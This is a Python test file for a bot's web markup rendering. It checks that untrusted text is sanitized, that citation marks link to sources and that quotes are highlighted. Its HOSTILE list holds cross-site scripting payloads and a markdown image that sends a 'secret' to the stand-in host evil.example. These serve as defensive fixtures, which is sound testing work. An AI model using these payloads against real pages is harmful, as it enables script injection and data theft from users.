"""Untrusted text on a page: shown, never obeyed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.adapters.web.markup import answer_html, passage_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "[x](javascript:alert(1))",
    '"><svg onload=alert(1)>',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_image_or_script_comes_out_of_text(text: str) -> None:
    for html in (answer_html(text, "i", 1), passage_html(text, text)):
        assert not re.search(r"<(?!/?(?:p|br|ol|ul|li|mark|code|pre|a class=\"mark\"|/?a)\b)", html)
        assert 'href="http' not in html
        assert "<a href" not in html


def test_a_mark_leads_to_its_source() -> None:
    html = answer_html("Open the client. [1]", "abc", 1)

    assert '<a class="mark" href="#s-abc-1">1</a>' in html


def test_a_mark_without_a_source_stays_text() -> None:
    assert "[2]" in answer_html("See [2].", "abc", 1)


def test_the_quote_is_highlighted_where_it_stands() -> None:
    html = passage_html("First.\n\n- Open it.\n- Close it.\n\nLast.", "- Open it.\n- Close it.")

    assert html.count("<mark>") == 2
    assert "<mark>Open it.</mark>" in html
    assert "<mark>First" not in html


def test_each_cell_of_a_quoted_row_is_highlighted() -> None:
    table = "| Port | Use |\n|---|---|\n| 443 | VPN |\n| 22 | SSH |"

    html = passage_html(table, "| 443 | VPN |")

    assert "<td><mark>443</mark></td>" in html
    assert "<td>22</td>" in html


def test_a_quote_that_is_not_there_highlights_nothing() -> None:
    assert "<mark>" not in passage_html("Open it.", "Close it.")


@given(text=st.text(max_size=300), quote=st.text(max_size=50))
def test_any_text_gives_balanced_marks_and_no_raw_tags(text: str, quote: str) -> None:
    html = passage_html(text, quote)

    assert html.count("<mark>") == html.count("</mark>")
    assert "<script" not in html.lower()
